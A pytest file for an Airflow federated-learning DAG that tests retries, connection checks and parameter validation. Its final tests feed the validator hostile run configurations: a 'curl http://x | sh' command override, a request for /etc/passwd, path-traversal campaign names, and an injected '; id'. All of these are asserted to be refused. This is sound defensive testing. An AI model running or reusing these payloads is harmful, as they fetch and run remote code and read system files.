"""The federation DAG's wiring: which steps retry, which failures are refused at once, and the
facilities' connections looked up when it is built (from ``AIRFLOW_CONN_*`` variables here).
"""

from __future__ import annotations

import json
from datetime import timedelta

import pytest
import yaml
from airflow.sdk.exceptions import AirflowFailException
from xffl_airflow.federation.config import ConfigError, load_config
from xffl_airflow.federation.connections import ConnectionsUnavailable, connection_problems
from xffl_airflow.federation.dag import LOCAL_RETRIES, _refusals_fail_at_once, build_federation_dag
from xffl_airflow.federation.errors import RoundError, RunConfError
from xffl_airflow.federation.names import FederationDag
from xffl_airflow.federation.rounds.prepare import prepare_round

CONFIG = {
    "campaign": "wiring",
    "storage": "/srv/xffl",
    "base_model": "/srv/models/tiny",
    "retry": {"retries": 5, "retry_delay_s": 7},
    "facilities": [
        {"name": "italy", "workdir": "/home/a/xffl", "data": "/home/a/data"},
        {"name": "czechia", "workdir": "/home/b/xffl", "data": "/home/b/data"},
    ],
}


CONNECTION = json.dumps({"conn_type": "ssh", "host": "login.example.org", "login": "xffl"})


@pytest.fixture
def config_path(tmp_path):
    path = tmp_path / "federation.yaml"
    path.write_text(yaml.safe_dump(CONFIG))
    return str(path)


@pytest.fixture
def connections(monkeypatch):
    for name in ("italy", "czechia"):
        monkeypatch.setenv(f"AIRFLOW_CONN_FACILITY_{name.upper()}", CONNECTION)


@pytest.fixture
def dag(config_path, connections):
    return build_federation_dag(config_path)


def test_a_connection_airflow_lacks_refuses_the_dag_naming_file_field_and_id(config_path, connections, monkeypatch):
    monkeypatch.delenv("AIRFLOW_CONN_FACILITY_CZECHIA")
    with pytest.raises(ConfigError) as refused:
        build_federation_dag(config_path)
    message = str(refused.value)
    assert message.startswith(f"{config_path}: facilities[1].conn_id (czechia): connection 'facility_czechia'")
    assert "not defined in Airflow" in message and "italy" not in message
    monkeypatch.setenv("AIRFLOW_CONN_FACILITY_CZECHIA", CONNECTION)
    assert build_federation_dag(config_path).dag_id == "xffl_wiring"


def test_connection_problems_name_each_facility_that_lookup_cannot_give(config_path):
    config = load_config(config_path)

    def lookup(conn_id):
        if conn_id == "facility_italy":
            raise LookupError("connection 'facility_italy': has no host")
        return object()

    problems = connection_problems(config, lookup)
    assert problems == ["facilities[0].conn_id (italy): connection 'facility_italy': has no host"]
    assert connection_problems(config, lambda conn_id: object()) == []


def test_remote_steps_retry_as_configured_and_local_steps_retry_transient_failures(dag):
    for facility in ("italy", "czechia"):
        for step in ("push", "train", "pull"):
            task = dag.task_dict[f"{facility}.{step}"]
            assert (task.retries, task.retry_delay) == (5, timedelta(seconds=7)), task.task_id
    for task_id in ("prepare", "aggregate", "finalize", "continue_campaign"):
        task = dag.task_dict[task_id]
        assert (task.retries, task.retry_delay) == (LOCAL_RETRIES["retries"], LOCAL_RETRIES["retry_delay"]), task_id
    assert dag.task_dict["italy.train"].fail_fast_exit_codes == {2}  # xffl_tasks.train: bad input
    assert dag.task_dict["aggregate"].trigger_rule == "all_done"
    assert dag.task_dict["italy.train"].upstream_task_ids == {"italy.push"}
    assert dag.task_dict["aggregate"].upstream_task_ids == {"italy.pull", "czechia.pull"}


@pytest.mark.parametrize(
    "refusal",
    [ConfigError("training.lr: must be > 0"), RoundError("quorum is 2"), RunConfError("run conf: config: not a setting")],
)
def test_a_refusal_of_the_round_fails_without_retries_and_keeps_its_message(refusal):
    def step():
        raise refusal

    with pytest.raises(AirflowFailException, match=str(refusal)) as raised:
        _refusals_fail_at_once(step)
    assert raised.value.__cause__ is refusal


@pytest.mark.parametrize(
    "transient", [ConnectionsUnavailable("facilities[0].conn_id (italy): not found"), OSError(28, "No space left")]
)
def test_other_failures_pass_through_to_be_retried(transient):
    def step():
        raise transient

    with pytest.raises(type(transient)):
        _refusals_fail_at_once(step)


def test_a_step_that_succeeds_returns_its_result():
    assert _refusals_fail_at_once(lambda a, *, b: a + b, 2, b=3) == 5


def test_the_trigger_form_has_typed_knobs_and_neither_a_config_path_nor_free_overrides(dag):
    params = dag.params
    assert "config" not in params and "overrides" not in params
    assert set(params) == {
        "campaign", "round", "learning_rate", "lr_schedule", "warmup_steps", "max_steps", "epochs", "seed",
        "max_rounds", "min_improvement", "patience", "min_update_norm",
    }  # fmt: skip
    learning_rate = params.get_param("learning_rate")
    assert learning_rate.schema == {"type": "number", "exclusiveMinimum": 0, "maximum": 1.0, "title": "training.learning_rate"}
    assert "peak learning rate" in learning_rate.description
    assert params.get_param("lr_schedule").schema["enum"] == ["constant", "cosine", "linear"]
    assert params.get_param("max_rounds").schema["type"] == "integer"
    assert params["max_rounds"] == 3 and params["max_steps"] is None


@pytest.fixture
def prepare(config_path, connections, tmp_path):
    storage = tmp_path / "campaigns"
    data = {**CONFIG, "storage": str(storage), "base_model": str(tmp_path / "model")}
    with open(config_path, "w") as file:
        yaml.safe_dump(data, file)

    def run(run_conf):
        return prepare_round(
            dag=FederationDag.of(load_config(config_path), config_path), dag_facilities=["italy", "czechia"],
            run_conf=run_conf, run_type="manual", run="manual__1",
        )  # fmt: skip

    return run, storage


def test_a_hostile_run_conf_is_refused_by_name_before_anything_is_written(prepare):
    run, storage = prepare
    with pytest.raises(RunConfError) as refused:
        run({
            "round": 0,
            "campaign": "../other-campaign",
            "config": "/etc/passwd",
            "overrides": {"training": {"command": "curl http://x | sh; {python} {model} {data} {out}"}},
        })  # fmt: skip
    message = str(refused.value)
    assert "run conf: config, overrides.training.command: not a setting a run may change" in message
    assert "params.campaign: a campaign name is 1-64 of" in message
    assert "curl" not in message and "/etc/passwd" not in message
    assert not storage.exists() and not (storage.parent / "other-campaign").exists()


@pytest.mark.parametrize(
    ("run_conf", "named"),
    [
        ({"campaign": "/etc/cron.d"}, "params.campaign"),
        ({"round": -1}, "params.round"),
        ({"round": True}, "params.round"),
        ({"max_steps": "10; id"}, "params.max_steps"),
        ({"learning_rate": float("inf")}, "params.learning_rate"),
    ],
)
def test_bad_run_parameters_are_refused_before_anything_is_written(prepare, run_conf, named):
    run, storage = prepare
    with pytest.raises(RunConfError, match=named):
        run(run_conf)
    assert not storage.exists()
